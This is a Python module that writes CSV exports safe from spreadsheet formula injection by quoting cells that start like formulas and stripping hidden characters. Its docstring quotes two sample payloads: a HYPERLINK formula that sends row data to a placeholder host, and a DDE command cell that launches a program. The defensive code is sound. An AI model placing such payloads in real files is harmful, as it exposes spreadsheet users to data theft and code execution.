"""Text cells that cannot attack the spreadsheet they are opened in: the one CSV writer of the service.

Researchers open our CSV files in Excel or LibreOffice, which run a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, after a tab or carriage return, also) as a formula:
``=HYPERLINK("http://x/?"&A2,"Klik")`` leaks the row, ``+cmd|' /C calc'!A0`` starts a program.
Following OWASP's rule (CSV Injection), such a text cell gets a leading ``'``, which the
spreadsheet shows as text and does not store. Control, zero-width and bidirectional-formatting
characters are dropped from text cells too (names refuse them since #13, older rows may hold them):
they hide what a cell says. Numbers are written as they are: ``-1`` stays a number.
"""

from __future__ import annotations

import csv
import functools
import unicodedata
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_HIDDEN_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Zl", "Zp"})


class _Writable(Protocol):
    def write(self, text: str, /) -> int: ...


@functools.lru_cache(maxsize=8192)
def neutralise(text: str) -> str:
    """``text`` safe for a spreadsheet cell: hidden characters dropped, a formula start quoted."""
    if not text.isascii() or not text.isprintable():
        text = "".join(char for char in text if unicodedata.category(char) not in _HIDDEN_CATEGORIES)
    # after the hidden characters are gone: "\u202e=cmd" must not become a formula
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_cell(value: Any) -> Any:
    """A cell for :class:`SafeCsvWriter`: text neutralised, anything else (numbers, None) unchanged."""
    return neutralise(value) if isinstance(value, str) else value


class SafeCsvWriter:
    """``csv.writer`` (RFC 4180, CRLF) whose text cells are neutralised.

    ``text_columns`` names the positions that may hold text from people (names, codes); the other
    cells of a row are written as given, for export rows whose item and score columns are digits
    the service formats itself. Without it every text cell is neutralised.
    """

    def __init__(self, stream: _Writable, *, text_columns: Sequence[int] | None = None) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")
        self._text_columns = None if text_columns is None else tuple(text_columns)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow(self._safe(row))

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        self._writer.writerows(self._safe(row) for row in rows)

    def _safe(self, row: Sequence[Any]) -> Sequence[Any]:
        if self._text_columns is None:
            return [safe_cell(value) for value in row]
        cells = list(row)
        for position in self._text_columns:
            cells[position] = safe_cell(cells[position])
        return cells
